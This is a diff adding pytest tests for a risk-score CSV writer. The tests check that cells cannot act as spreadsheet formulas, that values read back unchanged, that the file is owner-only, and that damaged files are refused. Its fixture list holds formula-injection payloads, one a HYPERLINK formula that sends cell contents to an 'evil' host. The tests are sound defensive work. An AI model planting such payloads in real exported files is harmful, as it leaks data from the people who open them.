@@ -1,0 +1,62 @@
+"""Everybody's risk as a file: for its owner alone, harmless in a spreadsheet, and read back."""
+
+import csv
+import math
+import stat
+
+import numpy as np
+import pytest
+
+from error_assertions import raises
+from recveil.auditing import Risk, read_risk, write_risk
+
+HOSTILE = ['=HYPERLINK("http://evil/?"&A1)', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'=1", "ann"]
+
+
+@pytest.fixture
+def written(tmp_path):
+    found = np.linspace(0, 1, len(HOSTILE))
+    found[-1] = math.nan
+    adversary = np.array(["likes"] * 7 + [None], dtype=object)
+    write_risk(np.array(HOSTILE, dtype=object), Risk(found, adversary, 3), tmp_path / "risk.csv")
+    return tmp_path / "risk.csv"
+
+
+def test_no_cell_is_a_formula(written):
+    with written.open(newline="", encoding="utf-8") as file:
+        rows = list(csv.reader(file))
+    assert len(rows) == len(HOSTILE) + 1
+    for cell in (cell for row in rows for cell in row):
+        assert not cell.startswith(tuple("=+-@\t\r"))
+
+
+def test_it_is_read_back_the_same(written):
+    found = read_risk(written)
+    assert list(found) == HOSTILE
+    assert list(found.values())[:-1] == np.linspace(0, 1, len(HOSTILE)).tolist()[:-1]
+    assert math.isnan(found["ann"])
+
+
+def test_numbers_stay_numbers(tmp_path):
+    risk = Risk(np.array([0.5]), np.array(["likes"], dtype=object), 2)
+    write_risk(np.array([-5]), risk, tmp_path / "risk.csv")
+    assert (tmp_path / "risk.csv").read_text().splitlines()[1] == "-5,0.5,likes"
+
+
+def test_its_owner_alone_reads_it_whatever_stood_there(written):
+    written.chmod(0o644)
+    risk = Risk(np.array([0.5]), np.array(["likes"], dtype=object), 2)
+    write_risk(np.array([1]), risk, written)
+    assert stat.S_IMODE(written.stat().st_mode) == 0o600
+    assert [path.name for path in written.parent.iterdir()] == ["risk.csv"]
+
+
+@pytest.mark.parametrize(
+    "content",
+    [b"", b"user,k\n1,2\n", b"user_id,found,adversary\n1,high,likes\n", b"\xff\xfe"],
+)
+def test_what_is_no_such_file_is_refused(tmp_path, content):
+    (tmp_path / "risk.csv").write_bytes(content)
+    with raises("input.damaged") as caught:
+        read_risk(tmp_path / "risk.csv")
+    assert "risk.csv" in str(caught.value)
